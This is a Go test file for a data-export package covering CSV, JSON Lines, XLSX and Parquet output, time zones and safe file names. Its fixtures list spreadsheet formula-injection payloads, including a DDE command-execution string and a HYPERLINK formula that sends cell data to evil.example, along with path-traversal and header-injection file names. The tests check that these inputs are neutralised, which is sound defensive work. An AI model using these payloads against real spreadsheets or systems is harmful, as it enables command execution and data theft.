package export

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

var seoul = mustZone("Asia/Seoul")

func mustZone(name string) *time.Location {
	zone, err := time.LoadLocation(name)
	if err != nil {
		panic(err)
	}
	return zone
}

// nineFifteen is 2026-11-01 09:15:30.250 in Seoul.
var nineFifteen = time.Date(2026, 11, 1, 9, 15, 30, 250_000_000, seoul).UnixMilli()

// tableOf is a table with a column of each kind.
func tableOf() Table {
	return Table{
		Name: "상담", Zone: seoul,
		Columns: []Column{
			{"name", Text},
			{"calls", Whole},
			{"mean", Number},
			{"talk_seconds", Seconds},
			{"service_level", Percent},
			{"abandoned", Flag},
			{"day", Day},
			{"start", Moment},
			{"start_utc", MomentUTC},
		},
		About: About{
			Title:    "안내",
			Sections: []Section{{Title: "무엇", Rows: [][]string{{"필터", "=cmd|' /C calc'!A0"}, {"시간대", "Asia/Seoul"}}}, {Title: "지표"}},
			Manifest: []byte(`{"position":7,"name":"it's"}`),
		},
	}
}

func full(name string) []Value {
	return []Value{
		OfText(name), OfWhole(1234), OfDecimal(31.25), OfDecimal(241.75), OfDecimal(83.6), OfFlag(true), OfText("2026-11-01"),
		OfMoment(nineFifteen), OfMoment(nineFifteen),
	}
}

// made is the file of some rows.
func made(t *testing.T, f Format, table Table, rows ...[]Value) []byte {
	t.Helper()
	spool, err := NewSpool(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := spool.Close(); err != nil {
			t.Error(err)
		}
	}()
	w, err := New(t.Context(), f, table, spool)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Finish(); err != nil {
		t.Fatal(err)
	}
	spool.End(nil)
	var file bytes.Buffer
	if err := spool.Follow(t.Context(), &file); err != nil {
		t.Fatal(err)
	}
	return file.Bytes()
}

// read is what Python's own library finds in a file.
func read[T any](t *testing.T, f Format, file []byte) T {
	t.Helper()
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("left out: what another program reads of an export, which needs python3")
	}
	command := exec.CommandContext(t.Context(), python, "-B", "testdata/read.py", string(f))
	command.Stdin = bytes.NewReader(file)
	out, err := command.Output()
	if exit, failed := errors.AsType[*exec.ExitError](err); failed {
		t.Fatalf("python: %s", exit.Stderr)
	}
	if err != nil {
		t.Fatal(err)
	}
	var value T
	if err := json.Unmarshal(out, &value); err != nil {
		t.Fatal(err)
	}
	return value
}

func TestCSVIsReadByAnotherProgram(t *testing.T) {
	file := made(t, CSV, tableOf(), full(`한국어, "따옴표" 둘
줄`), make([]Value, 9))
	want := [][]string{
		{"name", "calls", "mean", "talk_seconds", "service_level", "abandoned", "day", "start", "start_utc"},
		{"한국어, \"따옴표\" 둘\n줄", "1234", "31.25", "241.75", "83.6", "true", "2026-11-01", "2026-11-01 09:15:30", "2026-11-01T00:15:30.250Z"},
		{"", "", "", "", "", "", "", "", ""},
	}
	if diff := cmp.Diff(want, read[[][]string](t, CSV, file)); diff != "" {
		t.Errorf("rows (-want +read):\n%s", diff)
	}
	if !bytes.HasSuffix(file, []byte("\r\n")) {
		t.Error("the last line does not end as RFC 4180 wants it to")
	}
}

func TestJSONLinesAreReadByAnotherProgram(t *testing.T) {
	want := []map[string]any{{
		"name": "=A1 \"<tag>\"\u0001", "calls": 1234.0, "mean": 31.25, "talk_seconds": 241.75, "service_level": 83.6, "abandoned": true,
		"day": "2026-11-01", "start": "2026-11-01T09:15:30.250+09:00", "start_utc": "2026-11-01T00:15:30.250Z",
	}, {
		"name": nil, "calls": nil, "mean": nil, "talk_seconds": nil, "service_level": nil, "abandoned": nil, "day": nil, "start": nil, "start_utc": nil,
	}}
	file := made(t, JSONL, tableOf(), full("=A1 \"<tag>\"\u0001"), make([]Value, 9))
	if diff := cmp.Diff(want, read[[]map[string]any](t, JSONL, file)); diff != "" {
		t.Errorf("rows (-want +read):\n%s", diff)
	}
}

// sheets is a workbook: rows of cells by sheet, each of type, text and number format.
type sheets map[string][][][]string

func TestXLSXIsTypedAndReadByAnotherProgram(t *testing.T) {
	book := read[sheets](t, XLSX, made(t, XLSX, tableOf(), full("기술 지원"), make([]Value, 9)))
	rows := book["상담"]
	if len(rows) != 3 || len(rows[1]) != 9 || len(rows[2]) != 0 {
		t.Fatalf("rows %v", rows)
	}
	want := [][]string{
		{"inlineStr", "기술 지원", "0"},
		{"n", "1234", "0"},
		{"n", "31.25", "0"},
		{"n", "0.0027980324074074075", "[h]:mm:ss"},
		{"n", "0.836", "0.00%"},
		{"b", "1", "0"},
		{"n", "46327", "yyyy-mm-dd"},
		{"n", "46327.385766782405", "yyyy-mm-dd hh:mm:ss"},
		{"n", "46327.010766782405", "yyyy-mm-dd hh:mm:ss"},
	}
	if diff := cmp.Diff(want, rows[1]); diff != "" {
		t.Errorf("cells (-want +read):\n%s", diff)
	}
	about := book["안내"]
	wantAbout := [][][]string{
		{{"inlineStr", "무엇", "0"}},
		{{"inlineStr", "필터", "0"}, {"inlineStr", "'=cmd|' /C calc'!A0", "0"}},
		{{"inlineStr", "시간대", "0"}, {"inlineStr", "Asia/Seoul", "0"}},
		{},
		{{"inlineStr", "지표", "0"}},
	}
	if diff := cmp.Diff(wantAbout, about); diff != "" {
		t.Errorf("sheet about the file (-want +read):\n%s", diff)
	}
}

func TestParquetIsReadByDuckDB(t *testing.T) {
	file := filepath.Join(t.TempDir(), "a.parquet")
	rows := [][]Value{make([]Value, 9)}
	for i := range 3 * batchRows {
		rows = append(rows, full(fmt.Sprintf("=이름 %d", i)))
	}
	writeFile(t, file, made(t, Parquet, tableOf(), rows...))
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var got, types string
	var n, empty int
	err = db.QueryRowContext(t.Context(), `select count(*), count(*) filter (name is null and calls is null and start is null),
		any_value(concat_ws('|', calls, mean, talk_seconds, service_level, abandoned, day, start, epoch_ms(start_utc))) filter (name is not null),
		any_value(concat_ws('|', typeof(calls), typeof(day), typeof(start), typeof(start_utc)))
		from read_parquet($1)`, file).Scan(&n, &empty, &got, &types)
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("1234|31.25|241.75|83.6|true|2026-11-01|2026-11-01 09:15:30.25|%d", nineFifteen)
	if n != len(rows) || empty != 1 || got != want || types != "BIGINT|DATE|TIMESTAMP|TIMESTAMP WITH TIME ZONE" {
		t.Errorf("%d rows, %d empty, %s of %s; want %d, 1, %s", n, empty, got, types, len(rows), want)
	}
	var inOrder bool
	err = db.QueryRowContext(t.Context(), `select bool_and(name is null or name = '=이름 ' || (file_row_number - 1)) from read_parquet($1, file_row_number = true)`, file).Scan(&inOrder)
	if err != nil || !inOrder {
		t.Errorf("rows are not in the order they were written in; error %v", err)
	}
	var manifest []byte
	err = db.QueryRowContext(t.Context(), `select value from parquet_kv_metadata($1) where key = 'ringside'`, file).Scan(&manifest)
	if err != nil || string(manifest) != string(tableOf().About.Manifest) {
		t.Errorf("manifest %s, error %v", manifest, err)
	}
}

// dangerous are texts that spreadsheets run, or that hide one.
var dangerous = []string{
	"=1+1", "+82215880001", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	`=HYPERLINK("http://evil.example/?x="&A1,"Error")`, `=cmd|' /C calc'!A0`,
}

func TestNoTextIsRunAsAFormula(t *testing.T) {
	table := Table{Name: "=표", Columns: []Column{{"=column", Text}, {"plain", Text}}, Zone: seoul, About: tableOf().About}
	var rows [][]Value
	for _, text := range dangerous {
		rows = append(rows, []Value{OfText(text), OfText(`",` + text)})
	}
	inCSV := read[[][]string](t, CSV, made(t, CSV, table, rows...))
	book := read[sheets](t, XLSX, made(t, XLSX, table, rows...))
	inXLSX := book["=표"]
	if len(inCSV) != len(dangerous)+1 || len(inXLSX) != len(dangerous)+1 {
		t.Fatalf("%d and %d rows", len(inCSV), len(inXLSX))
	}
	if inCSV[0][0] != "'=column" || inXLSX[0][0][1] != "'=column" {
		t.Errorf("heads %q and %q", inCSV[0], inXLSX[0])
	}
	for i, text := range dangerous {
		if got := inCSV[i+1]; got[0] != "'"+text || got[1] != `",`+text {
			t.Errorf("%q in csv: %q", text, got)
		}
		got := inXLSX[i+1][0]
		// XML reads a line's end as \n, whatever it was.
		if want := "'" + strings.ReplaceAll(text, "\r", "\n"); got[0] != "inlineStr" || strings.ReplaceAll(got[1], "\r", "\n") != want {
			t.Errorf("%q in xlsx: %q", text, got)
		}
	}
}

func TestAWorkbookGoesOnInAnotherSheet(t *testing.T) {
	spool, err := NewSpool(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer spool.Close()
	w, err := newXLSX(Table{Name: "rows", Columns: []Column{{"n", Whole}}, Zone: seoul, About: tableOf().About}, spool)
	if err != nil {
		t.Fatal(err)
	}
	w.most = 4
	for i := range int64(7) {
		if err := w.Write([]Value{OfWhole(i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Finish(); err != nil {
		t.Fatal(err)
	}
	spool.End(nil)
	var file bytes.Buffer
	if err := spool.Follow(t.Context(), &file); err != nil {
		t.Fatal(err)
	}
	var got []string
	book := read[sheets](t, XLSX, file.Bytes())
	for _, name := range []string{"rows", "rows 2", "rows 3"} {
		for _, row := range book[name] {
			got = append(got, row[0][1])
		}
	}
	if diff := cmp.Diff(strings.Fields("n 0 1 2 n 3 4 5 n 6"), got); diff != "" {
		t.Errorf("rows of all sheets (-want +read):\n%s", diff)
	}
}

func TestATextTooLongForACellSaysSo(t *testing.T) {
	long := strings.Repeat("가", 40_000)
	table := Table{Name: "rows", Columns: []Column{{"text", Text}}, Zone: seoul, About: tableOf().About}
	cell := read[sheets](t, XLSX, made(t, XLSX, table, []Value{OfText(long)}))["rows"][1][0][1]
	if want := "more than a cell can hold]"; !strings.HasSuffix(cell, want) || !strings.HasPrefix(cell, long[:90_000]) {
		t.Errorf("%d bytes that end in %q", len(cell), cell[len(cell)-40:])
	}
	if rows := read[[][]string](t, CSV, made(t, CSV, table, []Value{OfText(long)})); rows[1][0] != long {
		t.Errorf("%d bytes in csv, want all %d", len(rows[1][0]), len(long))
	}
}

func TestAFailedFileIsNeverWhole(t *testing.T) {
	for _, f := range Formats() {
		spool, err := NewSpool(t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		w, err := New(t.Context(), f, tableOf(), spool)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(full("a")); err != nil {
			t.Fatal(err)
		}
		w.Discard()
		broken := errors.New("broken")
		spool.End(broken)
		if err := spool.Follow(t.Context(), &bytes.Buffer{}); !errors.Is(err, broken) {
			t.Errorf("%s: follower was told %v", f, err)
		}
		dir := spool.dir
		if err := spool.Close(); err != nil {
			t.Errorf("%s: %v", f, err)
		}
		if left, _ := filepath.Glob(dir + "*"); left != nil {
			t.Errorf("%s: left %v", f, left)
		}
	}
}

func TestParquetEndsWhenItsContextDoes(t *testing.T) {
	spool, err := NewSpool(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer spool.Close()
	ctx, cancel := context.WithCancel(t.Context())
	w, err := New(ctx, Parquet, tableOf(), spool)
	if err != nil {
		t.Fatal(err)
	}
	cancel()
	for err == nil {
		err = w.Write(full("a"))
	}
	w.Discard()
}

func TestAFollowerReadsWhileTheFileGrows(t *testing.T) {
	spool, err := NewSpool(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer spool.Close()
	pieces := make(chan string)
	followed := make(chan error, 1)
	go func() { followed <- spool.Follow(t.Context(), writerFunc(func(p []byte) { pieces <- string(p) })) }()
	for _, piece := range []string{"one", "two"} {
		if _, err := spool.Write([]byte(piece)); err != nil {
			t.Fatal(err)
		}
		if got := <-pieces; got != piece {
			t.Errorf("read %q, want %q", got, piece)
		}
	}
	spool.End(nil)
	if err := <-followed; err != nil {
		t.Error(err)
	}
	ctx, leave := context.WithCancel(t.Context())
	leave()
	unfinished, err := NewSpool(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer unfinished.Close()
	if err := unfinished.Follow(ctx, &bytes.Buffer{}); !errors.Is(err, context.Canceled) {
		t.Errorf("follower who left was told %v", err)
	}
}

type writerFunc func([]byte)

func (f writerFunc) Write(p []byte) (int, error) { f(p); return len(p), nil }

func TestFileNamesAreSafeInAnyScript(t *testing.T) {
	for wanted, want := range map[string]string{
		"월간 보고서 2026-11":         "월간 보고서 2026-11.csv",
		"../../etc/passwd":       "_.._etc_passwd.csv",
		"=cmd|' /C calc'!A0":     "cmd_' _C calc'!A0.csv",
		"a\r\nSet-Cookie: x\x00": "a__Set-Cookie_ x_.csv",
		"\u202egnp.exe":          "_gnp.exe.csv",
		"   ...   ":              "ringside.csv",
		"":                       "ringside.csv",
		strings.Repeat("상", 99):  strings.Repeat("상", nameLength) + ".csv",
	} {
		if got := FileName(wanted, CSV); got != want {
			t.Errorf("%q is called %q, want %q", wanted, got, want)
		}
	}
	const want = `attachment; filename="__ 1.csv"; filename*=UTF-8''%EC%9B%94%EA%B0%84%201.csv`
	if got := Disposition("월간 1.csv"); got != want {
		t.Errorf("%s\nwant %s", got, want)
	}
}

func TestMomentsAreThoseOfTheClockInTheZone(t *testing.T) {
	for _, zone := range []string{"Asia/Seoul", "America/New_York", "Australia/Lord_Howe", "Asia/Kathmandu", "UTC"} {
		location := mustZone(zone)
		w := newWall(location)
		for ms := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC).UnixMilli(); ms < time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC).UnixMilli(); ms += 13*60_000 + 777 {
			at := time.UnixMilli(ms).In(location)
			local, _ := w.local(ms)
			if got, want := string(w.appendClock(append(w.appendDate(nil, local), ' '), local, true)), at.Format("2006-01-02 15:04:05.000"); got != want {
				t.Fatalf("%s: %s, want %s", zone, got, want)
			}
			got, err := time.Parse(time.RFC3339Nano, string(w.appendRFC3339(nil, ms)))
			if err != nil || !got.Equal(at) {
				t.Fatalf("%s: %v, error %v, want %v", zone, got, err, at)
			}
		}
	}
}

func writeFile(t *testing.T, name string, content []byte) {
	t.Helper()
	if err := os.WriteFile(name, content, 0o600); err != nil {
		t.Fatal(err)
	}
}
